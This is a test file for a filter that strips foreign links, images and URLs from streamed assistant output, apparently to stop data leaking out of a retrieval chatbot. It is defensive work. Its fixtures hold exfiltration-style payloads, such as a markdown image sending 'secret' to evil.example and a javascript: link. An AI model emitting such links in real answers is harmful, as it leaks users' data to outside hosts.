import { describe, expect, it } from 'vitest';
import { ForeignLinkGate, removeForeignLinks } from './foreign-links.js';

const sources = ['See the VPN guide at https://intranet.example/vpn and the [portal](https://portal.example/start).'];

const attacks: Array<[string, string, string[]]> = [
  [
    'an image that loads a foreign URL',
    'Done ![x](https://evil.example/log?q=secret) [1]',
    ['https://evil.example/log?q=secret'],
  ],
  [
    'a link with data in its query',
    'Read [this](http://evil.example/?d=25%20days) now.',
    ['http://evil.example/?d=25%20days'],
  ],
  ['a bare URL', 'Send it to https://evil.example/collect?x=1.', ['https://evil.example/collect?x=1.']],
  ['an autolink', 'Go to <https://evil.example/a>', ['https://evil.example/a']],
  ['a javascript: link', '[click](javascript:alert(1))', ['javascript:alert(1']],
  ['a www. address', 'Visit www.evil.example/x today', ['www.evil.example/x']],
];

describe('removeForeignLinks', () => {
  it.each(attacks)('removes %s', (_name, text, removed) => {
    const guarded = removeForeignLinks(text, sources);
    expect(guarded.removed).toEqual(removed);
    expect(guarded.text).not.toMatch(/evil|javascript/u);
  });

  it('keeps links and URLs that a source contains, and plain citations', () => {
    const text = 'Use https://intranet.example/vpn. Or the [portal](https://portal.example/start) [1][2].';
    expect(removeForeignLinks(text, sources)).toEqual({ text, removed: [] });
  });

  it('keeps a link’s text and drops a foreign image whole', () => {
    expect(
      removeForeignLinks('A [guide](https://evil.example/g) and ![logo](https://evil.example/i.png).', sources).text,
    ).toBe('A guide and .');
  });
});

describe('ForeignLinkGate (streamed text)', () => {
  const texts = [
    ...attacks.map(([, text]) => text),
    'Line one [1].\nSee https://intranet.example/vpn and ![i](https://evil.example/p.png)\nDone [2]',
    'Wordhttps://evil.example/x stays joined? xwww.evil.example and [a] [b](c) ![',
    '连接 VPN：https://evil.example/中文 然后 [1]',
  ];

  it.each(texts)('streams exactly the guarded text, whatever the piece boundaries: %s', (text) => {
    for (const size of [1, 2, 3, 5, 8, 1000]) {
      const streamed: string[] = [];
      const gate = new ForeignLinkGate(sources, (piece) => streamed.push(piece));
      for (let index = 0; index < text.length; index += size) gate.push(text.slice(index, index + size));
      gate.end();
      const whole = removeForeignLinks(text, sources);
      expect(streamed.join('')).toBe(whole.text);
      expect(gate.removed).toEqual(whole.removed);
    }
  });

  it('passes plain text on at once, holding back only the last word', () => {
    const streamed: string[] = [];
    const gate = new ForeignLinkGate(sources, (piece) => streamed.push(piece));
    gate.push('Employees get 25 days [1] of lea');
    expect(streamed.join('')).toBe('Employees get 25 days [1] of ');
  });
});
